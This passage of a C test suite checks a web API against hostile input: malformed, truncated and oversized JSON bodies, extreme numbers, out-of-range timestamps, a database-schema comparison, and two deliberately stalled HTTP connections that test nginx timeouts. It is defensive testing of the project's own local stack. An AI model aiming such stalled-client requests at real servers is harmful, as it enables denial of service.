	{ "single quotes", "{'a':1}", 400, "INVALID_JSON" },
	{ "comment", "{/* c */}", 400, "INVALID_JSON" },
};

/* Valid JSON numbers that no field accepts as they are. */
static const char *const extreme[] = {
	"1e400", "-1e400", "1e-400", "9223372036854775808",
	"9300000000000000000", "-9300000000000000000",
	"123456789012345678901234567890",
};

static int	nbody_reqs;

static void
expect_body(const struct tmpl *t, const char *what, const char *body,
    long st, const char *code, int not_code)
{
	struct itest_resp	 r;
	char			*path = t->path(t);
	const char		*got;
	int			 ok;

	itest_request(t->method, path, tmpl_token(t), NULL, body, NULL, &r);
	nbody_reqs++;
	got = itest_jstr(&r, "code");
	if (not_code)
		ok = r.status < 500 && (got == NULL || strcmp(got, code) != 0);
	else
		ok = r.status == st && got != NULL && strcmp(got, code) == 0;
	if (!ok)
		printf("\n  %s %s, %s: %ld %s", t->method, t->pattern, what,
		    r.status, got ? got : "");
	itest_check(ok, &r, what, __FILE__, __LINE__, 0);
	itest_resp_free(&r);
	free(path);
}

static void
test_bodies(void)
{
	const struct route	*rt;
	const struct api_route	*ar;
	const struct tmpl	*t;
	size_t			 n, i, k, len, limit;
	char			*b, *body;

	hostile_setup();
	rt = api_routes(&n);
	for (i = 0; i < n; i++) {
		ar = rt[i].data;
		if (ar->body != BODY_JSON && ar->body != BODY_OPTIONAL)
			continue;
		if ((t = tmpl_for(rt[i].method, rt[i].pattern)) == NULL) {
			CU_FAIL("a JSON-body route without a hostile template");
			continue;
		}
		for (k = 0; k < NELEM(bad); k++) {
			b = bad[k].body ? strdup(bad[k].body) : nested(33);
			expect_body(t, bad[k].name, b, bad[k].status,
			    bad[k].code, 0);
			free(b);
		}
		/* Exactly 32 levels is JSON; whatever else it is. */
		b = nested(32);
		expect_body(t, "nesting 32 is not INVALID_JSON", b, 0,
		    "INVALID_JSON", 1);
		free(b);
		/* Numbers beyond double and int64 are valid JSON (RFC 8259
		 * §6): the fields judge them (issue 13). */
		for (k = 0; k < NELEM(extreme); k++) {
			b = itest_fmt("{\"value\":%s}", extreme[k]);
			expect_body(t, "an extreme number is not INVALID_JSON",
			    b, 0, "INVALID_JSON", 1);
			free(b);
		}
		/* The valid body cut in half. */
		body = t->body(t);
		len = strlen(body);
		body[len / 2] = '\0';
		expect_body(t, "the valid body truncated", body, 400,
		    "INVALID_JSON", 0);
		free(body);
		/* An empty body: refused unless the body is optional. */
		expect_body(t, "empty body", "", 400, "INVALID_JSON",
		    ar->body == BODY_OPTIONAL);
		/* One byte over the route's limit (CONVENTIONS §1, §9). */
		limit = ar->big_body ? 16u << 20 : 1u << 20;
		b = huge(limit + 1);
		expect_body(t, "body over the limit", b, 413,
		    "PAYLOAD_TOO_LARGE", 0);
		free(b);
	}
	printf("\n  %d requests with malformed or oversized bodies\n",
	    nbody_reqs);
}

/* ================================================================ instants */

/*
 * Instants whose text is in years 0001-9999 but whose offset moves them
 * out (fuzz_time found these): refused with 400 like any bad instant.
 * Before the fix the test clock stored a zero date and every request
 * answered 500 until the row was deleted by hand, and a reservation's
 * expiry failed a CHECK (500).
 */
static void
test_out_of_range_instants(void)
{
	static const char *const bad_now[] = {
		"9999-12-31T23:59:59.999-23:59", "0001-01-01T00:00:00+23:59",
		"9999-12-31T23:59:59.999-00:01",
	};
	struct itest_resp	 r;
	char			*b, *p;
	size_t			 i;

	hostile_setup();
	for (i = 0; i < NELEM(bad_now); i++) {
		b = itest_fmt("{\"now\":\"%s\"}", bad_now[i]);
		itest_put("/api/test/clock", az.tok[AZ_ADMIN], b, &r);
		ITEST_ASSERT_ERROR(&r, 400, "INVALID_FIELD");
		itest_resp_free(&r);
		free(b);
		itest_get("/api/user/me", az.tok[AZ_ADMIN], &r);
		ITEST_ASSERT_STATUS(&r, 200);
		itest_resp_free(&r);
	}
	itest_get("/api/test/clock", az.tok[AZ_ADMIN], &r);
	ITEST_ASSERT_STATUS(&r, 200);
	CU_ASSERT(itest_jbool(&r, "overridden") == 0);
	itest_resp_free(&r);

	b = az_reservation_body(az_device(AZ_OWN, NULL), 0);
	b[strlen(b) - 1] = '\0';
	p = itest_fmt("%s,\"reservationExpiryDate\":"
	    "\"9999-12-31T23:59:59.999-23:59\"}", b);
	itest_post("/api/buyer-reservation", az.tok[AZ_BUYER], p, &r);
	ITEST_ASSERT_ERROR(&r, 400, "INVALID_FIELD");
	itest_assert_fields(&r, "reservationExpiryDate", NULL);
	itest_resp_free(&r);
	free(p);
	free(b);

	itest_get("/api/buyer-reservation/my?end_date="
	    "9999-12-31T23:59:59.999-23:59", az.tok[AZ_BUYER], &r);
	ITEST_ASSERT_ERROR(&r, 400, "INVALID_QUERY");
	itest_resp_free(&r);

	p = itest_fmt("/api/certificate-log/%lld/claim", next_cert());
	itest_post(p, az.tok[AZ_BUYER], "{\"beneficiary\":\"B\","
	    "\"claimedAt\":\"0001-01-01T00:00:00+23:59\"}", &r);
	ITEST_ASSERT_ERROR(&r, 400, "INVALID_FIELD");
	itest_resp_free(&r);
	free(p);
}

/* ================================================================ schema */

/* The schema (tables, columns) is what it was before the hostile tests. */
static char	*schema_before;

static char *
schema(void)
{
	const char	*sql = getenv("DREC_SQL");
	char		*cmd, *out = NULL;
	size_t		 cap = 0, len = 0;
	char		 buf[4096];
	size_t		 n;
	FILE		*f;

	if (sql == NULL || *sql == '\0')
		return NULL;
	cmd = itest_fmt("%s -N -e \"SELECT table_name, column_name FROM "
	    "information_schema.columns WHERE table_schema = DATABASE() "
	    "ORDER BY table_name, ordinal_position\" 2>&1", sql);
	if ((f = popen(cmd, "r")) == NULL) {
		free(cmd);
		return NULL;
	}
	while ((n = fread(buf, 1, sizeof(buf), f)) > 0) {
		if (len + n + 1 > cap) {
			cap = (len + n + 1) * 2;
			out = realloc(out, cap);
		}
		memcpy(out + len, buf, n);
		len += n;
	}
	if (out != NULL)
		out[len] = '\0';
	if (pclose(f) != 0) {
		free(out);
		out = NULL;
	}
	free(cmd);
	return out;
}

static void
test_schema_before(void)
{
	schema_before = schema();
	if (schema_before == NULL)
		printf("\n  DREC_SQL not set or not usable: the schema check "
		    "compares the API only");
}

static void
test_schema_after(void)
{
	struct itest_resp	 r;
	char			*now = schema();
	int			 role;

	if (schema_before != NULL) {
		CU_ASSERT_PTR_NOT_NULL(now);
		if (now != NULL)
			CU_ASSERT_STRING_EQUAL(now, schema_before);
	}
	free(now);
	/* Every caller still works, and so do the fixture's objects. */
	for (role = AZ_ADMIN; role < AZ__N; role++) {
		itest_get("/api/user/me", az.tok[role], &r);
		ITEST_ASSERT_STATUS(&r, 200);
		itest_resp_free(&r);
	}
	{
		char *p = itest_fmt("/api/device/%lld", az.dev[AZ_OWN]);

		itest_get(p, az.tok[AZ_ORGADMIN], &r);
		ITEST_ASSERT_STATUS(&r, 200);
		itest_resp_free(&r);
		free(p);
	}
}

/* ================================================================ slow */

/* The value in seconds of directive in nginx.conf, or -1. */
static long
nginx_directive(const char *conf, const char *directive)
{
	const char	*p = conf;
	size_t		 n = strlen(directive);
	long		 v;
	char		 unit = 's';

	while ((p = strstr(p, directive)) != NULL) {
		const char *line = p;

		while (line > conf && line[-1] != '\n')
			line--;
		p += n;
		/* Skip comments and longer names. */
		if (strchr(" \t", *p) == NULL || memchr(line, '#', (size_t)(p -
		    line)) != NULL)
			continue;
		if (sscanf(p, " %ld%c", &v, &unit) < 1)
			return -1;
		return unit == 'm' ? v * 60 : v;
	}
	return -1;
}

static int
connect_stack(void)
{
	const char		*base = itest_base, *h;
	struct sockaddr_in	 sa;
	char			 host[64];
	int			 port, fd;

	h = strstr(base, "://");
	h = h ? h + 3 : base;
	if (sscanf(h, "%63[^:/]:%d", host, &port) != 2)
		return -1;
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons((unsigned short)port);
	if (inet_pton(AF_INET, strcmp(host, "localhost") == 0 ? "127.0.0.1" :
	    host, &sa.sin_addr) != 1)
		return -1;
	if ((fd = socket(AF_INET, SOCK_STREAM, 0)) < 0)
		return -1;
	if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) != 0) {
		close(fd);
		return -1;
	}
	return fd;
}

static double
now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

static void
test_slow_client(void)
{
	const char	*var = getenv("DREC_VAR_DIR");
	static const char head_then_stall[] =
	    "POST /api/auth/login HTTP/1.1\r\nHost: localhost\r\n"
	    "Content-Type: application/json\r\nContent-Length: 100\r\n\r\n"
	    "{\"username\":";
	static const char stall_in_headers[] =
	    "GET /api/health/live HTTP/1.1\r\nHost: loc";
	struct pollfd	 pf[2];
	char		*path, *conf = NULL, buf[4096];
	long		 body_to, head_to, send_to;
	double		 t0, closed[2] = { -1, -1 }, limit;
	size_t		 n = 0;
	int		 fd[2], i, open_n;
	FILE		*f;

	if (var == NULL) {
		itest_skip("slow client", "DREC_VAR_DIR is not set");
		return;
	}
	path = itest_fmt("%s/nginx/nginx.conf", var);
	if ((f = fopen(path, "r")) != NULL) {
		conf = calloc(1, 1 << 16);
		n = fread(conf, 1, (1 << 16) - 1, f);
		fclose(f);
	}
	free(path);
	ITEST_REQUIRE(conf != NULL && n > 0);
	body_to = nginx_directive(conf, "client_body_timeout");
	head_to = nginx_directive(conf, "client_header_timeout");
	send_to = nginx_directive(conf, "send_timeout");
	free(conf);
	printf("\n  nginx: client_header_timeout %lds, client_body_timeout "
	    "%lds, send_timeout %lds", head_to, body_to, send_to);
	CU_ASSERT(body_to > 0 && body_to <= 10);
	CU_ASSERT(head_to > 0 && head_to <= 10);
	CU_ASSERT(send_to > 0 && send_to <= 60);
	if (body_to <= 0 || head_to <= 0)
		return;

	/* Both stalled clients at once: the test takes one timeout. */
	fd[0] = connect_stack();
	fd[1] = connect_stack();
	ITEST_REQUIRE(fd[0] >= 0 && fd[1] >= 0);
	t0 = now_s();
	ITEST_REQUIRE(write(fd[0], head_then_stall, sizeof(head_then_stall) -
	    1) > 0);
	ITEST_REQUIRE(write(fd[1], stall_in_headers,
	    sizeof(stall_in_headers) - 1) > 0);
	limit = (body_to > head_to ? body_to : head_to) + 3.0;
	open_n = 2;
	while (open_n > 0 && now_s() - t0 < limit) {
		for (i = 0; i < 2; i++) {
			pf[i].fd = closed[i] < 0 ? fd[i] : -1;
			pf[i].events = POLLIN;
			pf[i].revents = 0;
		}
		if (poll(pf, 2, 200) <= 0)
			continue;
		for (i = 0; i < 2; i++) {
			ssize_t got;

			if (closed[i] >= 0 || pf[i].revents == 0)
				continue;
			/* Drain whatever nginx says (a 408 at most). */
			got = read(fd[i], buf, sizeof(buf));
			if (got <= 0) {
				closed[i] = now_s() - t0;
				open_n--;
			} else if (strncmp(buf, "HTTP/1.1 408", 12) != 0 &&
			    strncmp(buf, "HTTP/1.1 400", 12) != 0) {
				printf("\n  stalled client %d got: %.60s", i, buf);
				CU_FAIL("a stalled client got an answer other "
				    "than 408/400");
			}
		}
	}
	printf("\n  client stalled after its headers closed after %.1f s "
	    "(client_body_timeout %lds); stalled inside its headers after "
	    "%.1f s (client_header_timeout %lds)\n", closed[0], body_to,
	    closed[1], head_to);
	CU_ASSERT(closed[0] >= 0 && closed[0] <= body_to + 3.0);
	CU_ASSERT(closed[0] < 0 || closed[0] >= body_to - 1.0);
	CU_ASSERT(closed[1] >= 0 && closed[1] <= head_to + 3.0);
	close(fd[0]);
	close(fd[1]);
}

void
az_register_hostile(void)
{
	CU_pSuite s = itest_suite("hostile input");

	itest_add(s, "schema before", test_schema_before);
	itest_add(s, "SQL injection and traversal in every body string field",
	    test_fields);
	itest_add(s, "SQL injection and traversal in every path parameter",
	    test_path_params);
	itest_add(s, "encoded path traversal", test_raw_traversal);
	itest_add(s, "SQL injection in query filters", test_query_params);
	itest_add(s, "malformed and oversized bodies on every JSON route",
	    test_bodies);
	itest_add(s, "instants outside years 1-9999 after the offset",
	    test_out_of_range_instants);
	itest_add(s, "schema and callers intact after all of it",
	    test_schema_after);
	itest_add(s, "slow clients: nginx timeouts", test_slow_client);
}
